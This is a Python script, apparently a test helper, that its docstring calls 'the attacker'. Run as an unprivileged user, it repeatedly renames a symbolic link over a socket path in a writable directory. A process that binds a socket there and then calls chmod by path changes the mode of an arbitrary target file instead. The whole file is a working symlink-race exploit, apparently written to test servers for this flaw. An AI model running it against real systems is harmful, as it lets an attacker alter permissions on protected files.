"""The attacker of a directory it can write (run it as uid nobody): for `SECONDS`, puts a
symbolic link to TARGET at DIR/NAME again and again, each time by rename() over whatever
is there (atomic: the name is never missing), so that a process which binds a socket at
that name and then changes its mode by path (chmod follows links) changes TARGET's mode
instead. Usage: link_swapper.py DIR NAME TARGET SECONDS. Prints {"swaps": n} at the end.
"""

import json
import os
import sys
import time


def main():
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    directory, name, target, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
    spare = os.path.join(directory, f".{name}.{os.getpid()}")
    dest = os.path.join(directory, name)
    swaps = 0
    print("READY", flush=True)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            os.symlink(target, spare)
            os.rename(spare, dest)
            swaps += 1
        except OSError:
            try:
                os.unlink(spare)
            except OSError:
                pass
    for path in (spare, dest):
        try:
            if os.path.islink(path):
                os.unlink(path)
        except OSError:
            pass
    print(json.dumps({"swaps": swaps}), flush=True)


if __name__ == "__main__":
    main()
